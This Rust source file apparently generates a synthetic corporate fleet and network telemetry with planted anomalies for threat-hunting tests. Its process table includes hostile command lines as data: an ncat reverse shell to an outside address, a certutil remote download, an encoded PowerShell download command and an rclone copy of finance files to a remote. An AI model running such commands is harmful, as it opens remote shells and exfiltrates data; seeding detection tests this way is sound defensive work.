//! The synthetic fleet: devices, processes, destinations and the country networks the GeoIP
//! database covers. Names and addresses are fixed; only event choices depend on the seed.

use std::net::{IpAddr, Ipv4Addr};

/// A tiny deterministic PRNG (SplitMix64): the same seed gives the same fleet everywhere.
#[derive(Clone, Debug)]
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Rng {
        Rng(seed ^ 0x5DEE_CE66_D1CE_4E5B)
    }

    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform in `0..n` (n > 0).
    pub fn below(&mut self, n: u64) -> u64 {
        ((u128::from(self.next_u64()) * u128::from(n.max(1))) >> 64) as u64
    }

    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
}

/// FNV-1a, for fixed per-name identifiers (hashes, GUIDs) that do not depend on the seed.
pub fn fnv(s: &str, salt: u64) -> u64 {
    let mut h = 0xcbf2_9ce4_8422_2325u64 ^ salt.wrapping_mul(0x100_0000_01b3);
    for b in s.bytes() {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x100_0000_01b3);
    }
    // FNV alone leaves similar names with similar high bits; finish with a SplitMix mix.
    Rng(h).next_u64()
}

/// `n` lower-case hex digits derived from `s`.
pub fn hex_id(s: &str, n: usize) -> String {
    let mut out = String::with_capacity(n + 16);
    let mut salt = 0;
    while out.len() < n {
        out.push_str(&format!("{:016x}", fnv(s, salt)));
        salt += 1;
    }
    out.truncate(n);
    out
}

/// A country and the networks the generated GeoIP database maps to it.
pub struct Country {
    pub iso: &'static str,
    pub name: &'static str,
    pub nets: &'static [&'static str],
}

pub const COUNTRIES: &[Country] = &[
    Country {
        iso: "US",
        name: "United States",
        nets: &[
            "20.42.65.0/24",
            "20.189.173.0/24",
            "13.107.42.0/24",
            "52.112.0.0/16",
            "72.21.91.0/24",
            "93.184.221.0/24",
            "142.250.0.0/16",
            "151.101.0.0/16",
            "104.16.0.0/16",
            "73.0.0.0/16",
            "162.142.125.0/24",
            "167.94.138.0/24",
            "45.77.0.0/16",
            "2603:1030::/32",
        ],
    },
    Country {
        iso: "IE",
        name: "Ireland",
        nets: &["40.126.32.0/24", "52.97.0.0/16", "54.239.0.0/16", "20.190.128.0/18"],
    },
    Country { iso: "NL", name: "Netherlands", nets: &["51.105.0.0/16", "13.69.0.0/16", "185.156.73.0/24"] },
    Country {
        iso: "DE",
        name: "Germany",
        nets: &["140.82.121.0/24", "91.64.0.0/16", "185.220.101.0/24", "2a01:4f8::/32"],
    },
    Country { iso: "GB", name: "United Kingdom", nets: &["51.140.0.0/16", "86.128.0.0/16"] },
    Country { iso: "FR", name: "France", nets: &["51.15.0.0/16", "90.0.0.0/16"] },
    Country { iso: "BR", name: "Brazil", nets: &["177.0.0.0/16"] },
    Country { iso: "BG", name: "Bulgaria", nets: &["87.121.84.0/24"] },
    Country { iso: "RO", name: "Romania", nets: &["80.94.95.0/24"] },
    Country {
        iso: "RU",
        name: "Russia",
        nets: &["5.188.206.0/24", "91.215.85.0/24", "194.26.29.0/24", "45.155.205.0/24", "185.241.208.0/24"],
    },
    Country { iso: "CN", name: "China", nets: &["61.160.224.0/24", "218.92.0.0/16"] },
    Country { iso: "KP", name: "North Korea", nets: &["175.45.176.0/22"] },
];

/// The English name of a country by ISO code.
pub fn country_name(iso: &str) -> &'static str {
    COUNTRIES.iter().find(|c| c.iso == iso).map_or("", |c| c.name)
}

/// A process as Defender describes its initiating process.
pub struct Proc {
    pub name: &'static str,
    pub folder: &'static str,
    pub cmd: &'static str,
    pub company: &'static str,
    pub product: &'static str,
    pub version: &'static str,
    pub desc: &'static str,
    pub parent: &'static str,
    /// Runs as the signed-in user (else as SYSTEM).
    pub user: bool,
}

macro_rules! procs {
    ($($id:ident = ($name:expr, $folder:expr, $cmd:expr, $company:expr, $product:expr, $version:expr, $desc:expr, $parent:expr, $user:expr);)*) => {
        #[allow(non_camel_case_types, clippy::upper_case_acronyms)]
        #[derive(Clone, Copy, Debug, PartialEq, Eq)]
        pub enum P { $($id),* }
        pub const PROCS: &[Proc] = &[$(Proc { name: $name, folder: $folder, cmd: $cmd, company: $company, product: $product, version: $version, desc: $desc, parent: $parent, user: $user }),*];
    };
}

const MS: &str = "Microsoft Corporation";
const WINOS: &str = "Microsoft® Windows® Operating System";

procs! {
    Edge = ("msedge.exe", r"c:\program files (x86)\microsoft\edge\application\msedge.exe", r#""msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService"#, MS, "Microsoft Edge", "131.0.2903.70", "Microsoft Edge", "explorer.exe", true);
    Chrome = ("chrome.exe", r"c:\program files\google\chrome\application\chrome.exe", r#""chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService"#, "Google LLC", "Google Chrome", "131.0.6778.86", "Google Chrome", "explorer.exe", true);
    Firefox = ("firefox.exe", r"c:\program files\mozilla firefox\firefox.exe", r#""firefox.exe""#, "Mozilla Corporation", "Firefox", "133.0", "Firefox", "explorer.exe", true);
    Teams = ("ms-teams.exe", r"c:\program files\windowsapps\msteams_24295.605.3225.8804_x64__8wekyb3d8bbwe\ms-teams.exe", r#""ms-teams.exe""#, MS, "Microsoft Teams", "24295.605.3225.8804", "Microsoft Teams", "explorer.exe", true);
    OneDrive = ("OneDrive.exe", r"c:\program files\microsoft onedrive\onedrive.exe", r#""OneDrive.exe" /background"#, MS, "Microsoft OneDrive", "24.211.1020.0001", "Microsoft OneDrive", "explorer.exe", true);
    Svchost = ("svchost.exe", r"c:\windows\system32\svchost.exe", "svchost.exe -k NetworkService -p", MS, WINOS, "10.0.20348.1", "Host Process for Windows Services", "services.exe", false);
    Sense = ("MsSense.exe", r"c:\program files\windows defender advanced threat protection\mssense.exe", r#""MsSense.exe""#, MS, WINOS, "10.8760.20348.1", "Windows Defender Advanced Threat Protection Service Executable", "services.exe", false);
    MpEng = ("MsMpEng.exe", r"c:\programdata\microsoft\windows defender\platform\4.18.24090.11-0\msmpeng.exe", r#""MsMpEng.exe""#, MS, WINOS, "4.18.24090.11", "Antimalware Service Executable", "services.exe", false);
    Sql = ("sqlservr.exe", r"c:\program files\microsoft sql server\mssql16.mssqlserver\mssql\binn\sqlservr.exe", r#""sqlservr.exe" -sMSSQLSERVER"#, MS, "Microsoft SQL Server", "2022.160.4135.4", "SQL Server Windows NT - 64 Bit", "services.exe", false);
    W3wp = ("w3wp.exe", r"c:\windows\system32\inetsrv\w3wp.exe", r#"c:\windows\system32\inetsrv\w3wp.exe -ap "DefaultAppPool" -v "v4.0""#, MS, "Internet Information Services", "10.0.20348.1", "IIS Worker Process", "svchost.exe", false);
    System = ("System", "", "", "", "", "", "", "", false);
    Lsass = ("lsass.exe", r"c:\windows\system32\lsass.exe", r"C:\Windows\system32\lsass.exe", MS, WINOS, "10.0.20348.1", "Local Security Authority Process", "wininit.exe", false);
    Powershell = ("powershell.exe", r"c:\windows\system32\windowspowershell\v1.0\powershell.exe", "powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", MS, WINOS, "10.0.20348.1", "Windows PowerShell", "cmd.exe", false);
    MonHost = ("MonitoringHost.exe", r"c:\program files\microsoft monitoring agent\agent\monitoringhost.exe", r#""MonitoringHost.exe" -Embedding"#, MS, "System Center", "10.20.18069.0", "Health Service Monitoring Host", "HealthService.exe", false);
    Acme = ("acmeagent.exe", r"c:\program files\acme monitoring\agent\acmeagent.exe", r#""C:\Program Files\Acme Monitoring\agent\acmeagent.exe" --service"#, "Acme Monitoring Ltd", "Acme Monitoring Agent", "7.4.2.118", "Acme Monitoring Agent Service", "services.exe", false);
    PuttyUpper = ("PuTTY.exe", r"c:\users\public\downloads\putty.exe", r#""C:\Users\Public\Downloads\PuTTY.exe" -ssh admin@45.77.18.207 -P 22"#, "Simon Tatham", "PuTTY suite", "Release 0.81", "SSH, Telnet, Rlogin, and SUPDUP client", "explorer.exe", true);
    Putty = ("putty.exe", r"c:\tools\putty.exe", r#"putty.exe -ssh root@45.77.18.207"#, "Simon Tatham", "PuTTY suite", "Release 0.81", "SSH, Telnet, Rlogin, and SUPDUP client", "explorer.exe", true);
    Rclone = ("rclone.exe", r"c:\users\public\rclone.exe", r#"rclone.exe copy C:\Users\Public\Documents\finance remote:backup --transfers 8 --no-check-certificate"#, "https://rclone.org", "Rclone", "1.68.1", "Rsync for cloud storage", "cmd.exe", true);
    Ncat = ("ncat.exe", r"c:\programdata\ncat.exe", r#"ncat.exe 194.26.29.40 4444 -e cmd.exe"#, "Insecure.Com LLC", "Ncat", "7.95", "Ncat", "cmd.exe", false);
    Python = ("python.exe", r"c:\program files\python312\python.exe", r#""python.exe" -m pip install -r requirements.txt"#, "Python Software Foundation", "Python", "3.12.7", "Python", "cmd.exe", true);
    Ssh = ("ssh.exe", r"c:\windows\system32\openssh\ssh.exe", "ssh.exe deploy@2a01:4f8:c17:3a1b::1", MS, WINOS, "9.5.0.0", "OpenSSH SSH client", "cmd.exe", true);
    Sshd = ("sshd.exe", r"c:\windows\system32\openssh\sshd.exe", r"C:\Windows\System32\OpenSSH\sshd.exe", MS, WINOS, "9.5.0.0", "OpenSSH SSH Server", "services.exe", false);
    Certutil = ("certutil.exe", r"c:\windows\system32\certutil.exe", "certutil.exe -urlcache -f http://151.101.2.133/a.txt", MS, WINOS, "10.0.20348.1", "CertUtil.exe", "cmd.exe", false);
    Wdav = ("wdavdaemon", "/opt/microsoft/mdatp/sbin/wdavdaemon", "/opt/microsoft/mdatp/sbin/wdavdaemon", "", "", "", "", "systemd", false);
    LinuxSshd = ("sshd", "/usr/sbin/sshd", "/usr/sbin/sshd -D", "", "", "", "", "systemd", false);
    Exchange = ("EdgeTransport.exe", r"c:\program files\microsoft\exchange server\v15\bin\edgetransport.exe", r#""EdgeTransport.exe""#, MS, "Microsoft® Exchange", "15.2.1544.4", "Microsoft Exchange EdgeTransport", "MSExchangeTransport.exe", false);
}

impl P {
    pub fn info(self) -> &'static Proc {
        &PROCS[self as usize]
    }
}

/// A fixed destination: host name (empty for none), address, port, process that uses it.
#[derive(Clone, Copy, Debug)]
pub struct Dest {
    pub url: &'static str,
    pub ip: &'static str,
    pub port: u16,
    pub proc_: P,
}

const fn d(url: &'static str, ip: &'static str, port: u16, proc_: P) -> Dest {
    Dest { url, ip, port, proc_ }
}

/// Server traffic to the internet: only known-good Microsoft / PKI names (the server-anomaly
/// hunt filters them), so every rare server destination in the output is a planted one.
pub const SERVER_DESTS: &[Dest] = &[
    d("settings-win.data.microsoft.com", "20.42.65.92", 443, P::Svchost),
    d("v10.events.data.microsoft.com", "20.189.173.20", 443, P::Svchost),
    d("winatp-gw-weu.microsoft.com", "51.105.71.136", 443, P::Sense),
    d("eu-v20.events.data.microsoft.com", "20.189.173.21", 443, P::Sense),
    d("ctldl.windowsupdate.com", "93.184.221.240", 80, P::Svchost),
    d("login.microsoftonline.com", "20.190.151.68", 443, P::Svchost),
    d("ocsp.digicert.com", "72.21.91.29", 80, P::Lsass),
    d("login.windows.net", "20.190.151.9", 443, P::Sense),
    d("wdcp.microsoft.com", "13.69.239.72", 443, P::MpEng),
    d("outlook.office365.com", "52.97.146.162", 443, P::Svchost),
];

pub const LINUX_DESTS: &[Dest] = &[
    d("x.cp.wd.microsoft.com", "51.105.71.137", 443, P::Wdav),
    d("unitedstates.x.cp.wd.microsoft.com", "20.42.65.93", 443, P::Wdav),
];

/// Workstation web browsing (browser chosen per device).
pub const WEB: &[Dest] = &[
    d("www.google.com", "142.250.185.68", 443, P::Edge),
    d("github.com", "140.82.121.4", 443, P::Edge),
    d("www.bbc.co.uk", "151.101.0.81", 443, P::Edge),
    d("stackoverflow.com", "151.101.1.69", 443, P::Edge),
    d("www.amazon.de", "54.239.39.102", 443, P::Edge),
    d("www.lemonde.fr", "51.15.41.3", 443, P::Edge),
    d("www.office.com", "13.107.42.12", 443, P::Edge),
    d("www.microsoft.com", "2603:1030:20e:3::23c", 443, P::Edge),
    d("portal.azure.com", "13.107.42.16", 443, P::Edge),
    d("www.theguardian.com", "151.101.65.111", 80, P::Edge),
];

pub const WS_APPS: &[Dest] = &[
    d("teams.microsoft.com", "52.112.120.14", 443, P::Teams),
    d("teams.events.data.microsoft.com", "52.112.120.15", 443, P::Teams),
    d("onedrive.live.com", "13.107.42.13", 443, P::OneDrive),
    d("eu-v20.events.data.microsoft.com", "20.189.173.21", 443, P::Sense),
    d("settings-win.data.microsoft.com", "20.42.65.92", 443, P::Svchost),
];

/// Delivery Optimization peers (svchost.exe TCP 7680 on every workstation, no URL).
pub const PEER_NETS: &[[u8; 2]] = &[[73, 0], [86, 128], [91, 64], [90, 0]];

/// Internet scanners that knock on internet-facing ports (not in the feed).
pub const SCANNER_NETS: &[[u8; 3]] = &[[162, 142, 125], [167, 94, 138]];

/// VMConnection destinations per country (ISO, addresses). The first three stay common.
pub const VM_DESTS: &[(&str, &[&str])] = &[
    ("US", &["20.42.65.92", "151.101.1.69", "142.250.185.68", "104.16.88.20"]),
    ("IE", &["52.97.146.162", "54.239.39.102"]),
    ("NL", &["13.69.239.72", "51.105.71.136"]),
    ("DE", &["140.82.121.4", "91.64.12.9"]),
    ("GB", &["51.140.8.21", "86.128.44.3"]),
    ("FR", &["51.15.41.3", "90.0.7.77"]),
];

pub const VM_PROCS: &[&str] = &["omsagent", "nginx", "dotnet", "java", "apt", "python3"];

/// Roles of the named servers, in order; the fleet always has these.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Role {
    Dc,
    File,
    Sql,
    Web,
    Jump,
    Sftp,
    Mail,
    App,
    Linux,
    Generic,
}

pub const NAMED_SERVERS: &[(&str, Role)] = &[
    ("srv-dc01", Role::Dc),
    ("srv-dc02", Role::Dc),
    ("srv-file01", Role::File),
    ("srv-sql01", Role::Sql),
    ("srv-web01", Role::Web),
    ("srv-jump01", Role::Jump),
    ("srv-sftp01", Role::Sftp),
    ("srv-mail01", Role::Mail),
    ("srv-app01", Role::App),
    ("srv-app02", Role::App),
    ("srv-app03", Role::App),
    ("srv-lnx01", Role::Linux),
];

pub const DOMAIN: &str = "contoso.local";

/// One device of the fleet.
#[derive(Clone, Debug)]
pub struct Device {
    pub id: String,
    /// Short host name (VMConnection `Computer`).
    pub short: String,
    /// FQDN, lower case (Defender `DeviceName`, Sysmon `Computer`).
    pub name: String,
    pub ip: Ipv4Addr,
    pub role: Option<Role>,
    pub user: String,
    /// The internet-facing local port (DeviceInfo `AdditionalFields`).
    pub facing: Option<u16>,
    /// Sends Sysmon to Sentinel.
    pub sysmon: bool,
    /// Runs the Acme Monitoring agent (the rare third-party software).
    pub acme: bool,
    /// Browser of a workstation user.
    pub browser: P,
}

impl Device {
    pub fn is_server(&self) -> bool {
        self.role.is_some()
    }

    pub fn linux(&self) -> bool {
        self.role == Some(Role::Linux)
    }
}

const USERS: &[&str] = &[
    "amartin",
    "bchen",
    "cdubois",
    "dkowalski",
    "ejohansson",
    "fgarcia",
    "gmuller",
    "hnakamura",
    "iivanova",
    "jsmith",
    "kobrien",
    "lrossi",
    "mnovak",
    "nsilva",
    "opetrov",
    "pkumar",
];

/// Servers first (named ones, then generic), then workstations.
pub fn devices(n: usize) -> Vec<Device> {
    let servers = (n / 5).max(NAMED_SERVERS.len());
    let mut out = Vec::with_capacity(n);
    for i in 0..n {
        let (short, role) = if i < NAMED_SERVERS.len() {
            (NAMED_SERVERS[i].0.to_string(), Some(NAMED_SERVERS[i].1))
        } else if i < servers {
            (format!("srv-gen{:03}", i - NAMED_SERVERS.len() + 1), Some(Role::Generic))
        } else {
            (format!("ws-{:04}", i - servers + 1), None)
        };
        let ip = if role.is_some() {
            Ipv4Addr::new(10, 10, (i / 200) as u8, (10 + i % 200) as u8)
        } else {
            let w = i - servers;
            Ipv4Addr::new(10, 20, (w / 200) as u8, (10 + w % 200) as u8)
        };
        let facing = match role {
            Some(Role::Web) => Some(443),
            Some(Role::Jump) => Some(3389),
            Some(Role::Sftp) => Some(22),
            Some(Role::Mail) => Some(25),
            _ => None,
        };
        let user = if role.is_some() {
            "svc_admin".to_string()
        } else {
            format!("{}{}", USERS[i % USERS.len()], i / USERS.len())
        };
        out.push(Device {
            id: hex_id(&short, 40),
            name: format!("{short}.{DOMAIN}"),
            ip,
            role,
            user,
            facing,
            sysmon: matches!(short.as_str(), "srv-dc01" | "srv-sql01" | "srv-file01"),
            acme: matches!(short.as_str(), "srv-app02" | "srv-app03"),
            browser: match i % 7 {
                0 | 3 => P::Chrome,
                5 => P::Firefox,
                _ => P::Edge,
            },
            short,
        });
    }
    out
}

pub fn ip(s: &str) -> IpAddr {
    crate::model::ip::parse_ip(s).unwrap_or(IpAddr::V4(Ipv4Addr::UNSPECIFIED))
}
